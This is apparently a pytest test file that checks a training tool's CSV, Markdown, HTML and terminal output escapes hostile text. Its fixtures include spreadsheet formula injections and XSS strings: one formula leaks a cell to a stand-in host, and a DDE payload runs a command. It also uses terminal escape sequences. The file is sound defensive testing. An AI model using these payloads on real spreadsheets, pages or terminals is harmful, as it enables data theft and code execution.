"""Issue 17 item 9: typed text is shown, never run, wherever a report or a command's output goes:
no spreadsheet formulas in CSV, no raw HTML in Markdown, no terminal escape sequences."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mi_trainer.safe_text import csv_cell, json_for_terminal, markdown_text, visible_controls

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]
RETITLE = "\x1b]0;pwned\x07"  # retitles the terminal window
CLEAR = "\x1b[2J\x1b[H"  # clears the screen
CSI_8BIT = "\x9b31m"  # the one-byte form of ESC [
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_db(kit, tmp_path: Path) -> Path:
    db = tmp_path / "hostile.db"
    sessions = [
        kit.session(name, f"{name} team", f"2026-01-{day + 10}T10:00:00+00:00")
        for day, name in enumerate(FORMULAS)
    ]
    sessions.append(
        kit.session("<script>alert(1)</script>", "![x](http://example.invalid/t.png)", "2026-02-01")
    )
    sessions.append(kit.session(f"Sam{RETITLE}{CLEAR}", "North", "2026-02-02"))
    kit.keep(db, *sessions)
    return db


def test_csv_cells_never_start_a_formula(kit, capsys, tmp_path: Path) -> None:
    db = hostile_db(kit, tmp_path)
    code, out, _ = kit.run(capsys, "report", "--db", str(db), "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    names = {row["name"] for row in rows} | {row["team"] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in names  # still there to read, but as text
    for row in rows:
        for column in ("level", "name", "team", "period"):
            assert not row[column].startswith(("=", "+", "-", "@")), row


@pytest.mark.parametrize("command", ["report", "score"])
def test_markdown_shows_html_links_and_images_as_text(
    command: str, kit, capsys, tmp_path: Path
) -> None:
    if command == "report":
        argv = ["report", "--db", str(hostile_db(kit, tmp_path))]
    else:
        path = tmp_path / "session.txt"
        path.write_text(
            "P: <script>alert(1)</script> How are things?\n"
            "C: ![x](http://example.invalid/t.png) <img src=x onerror=alert(1)> fine\n",
            "utf-8",
        )
        argv = ["score", str(path)]
    code, out, _ = kit.run(capsys, *argv, "--format", "md")
    assert code == 0
    assert "<script" not in out and "<img" not in out
    assert "&lt;script&gt;" in out
    assert "![x](" not in out and "\\!\\[x\\](" in out


def test_code_shows_terminal_escape_sequences_visibly(kit, capsys, tmp_path: Path) -> None:
    path = tmp_path / "lines.txt"
    path.write_text(f"How are things{RETITLE}?\nYou sound{CLEAR} worried{CSI_8BIT}.\n", "utf-8")
    code, out, _ = kit.run(capsys, "code", str(path))
    assert code == 0
    assert not RAW_CONTROL.search(out)
    assert "␛]0;pwned␇" in out and "<U+009B>31m" in out
    code, out, _ = kit.run(capsys, "code", "--jsonl", str(path))
    assert not RAW_CONTROL.search(out)
    first = json.loads(out.splitlines()[0])
    assert first["text"] == f"How are things{RETITLE}?"  # JSON keeps the exact text, escaped
    assert json.loads(out.splitlines()[1])["text"].endswith(f"worried{CSI_8BIT}.")


@pytest.mark.parametrize("fmt", [[], ["--json"], ["--format", "md"], ["--format", "html"]])
def test_score_shows_terminal_escape_sequences_visibly(
    fmt: list[str], kit, capsys, tmp_path: Path
) -> None:
    path = tmp_path / "session.txt"
    path.write_text(f"P: What happened{RETITLE}?\nC: Nothing{CLEAR}{CSI_8BIT}.\n", "utf-8")
    code, out, _ = kit.run(capsys, "score", str(path), *fmt)
    assert code == 0
    assert not RAW_CONTROL.search(out)


@pytest.mark.parametrize("fmt", ["text", "md", "html", "csv", "json"])
def test_report_shows_terminal_escape_sequences_visibly(
    fmt: str, kit, capsys, tmp_path: Path
) -> None:
    code, out, _ = kit.run(
        capsys, "report", "--db", str(hostile_db(kit, tmp_path)), "--format", fmt
    )
    assert code == 0
    assert not RAW_CONTROL.search(out)


# ------------------------------------------------------------------ the helpers, for any text


@given(st.text())
def test_visible_controls_leaves_no_control_character_but_tab_and_newline(text: str) -> None:
    shown = visible_controls(text)
    assert not RAW_CONTROL.search(shown)
    assert all(unicodedata.category(c) != "Cc" or c in "\t\n" for c in shown)
    if not RAW_CONTROL.search(text):
        assert shown == text  # ordinary text is left exactly as typed


@given(st.text())
def test_json_for_terminal_keeps_the_value_and_escapes_the_rest(text: str) -> None:
    dumped = json_for_terminal(json.dumps({"text": text}, ensure_ascii=False))
    assert not RAW_CONTROL.search(dumped)
    assert json.loads(dumped) == {"text": text}


@given(st.text())
def test_csv_cells_for_any_text_are_never_formulas(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text or cell == text


@given(st.text())
def test_markdown_text_has_no_html_or_markup_left(text: str) -> None:
    shown = markdown_text(text)
    assert "<" not in shown and ">" not in shown and "\n" not in shown
    unescaped = re.sub(r"\\.", "", shown)  # drop backslash escapes; nothing special remains
    assert not re.search(r"[\[\]`*_|!]", unescaped)
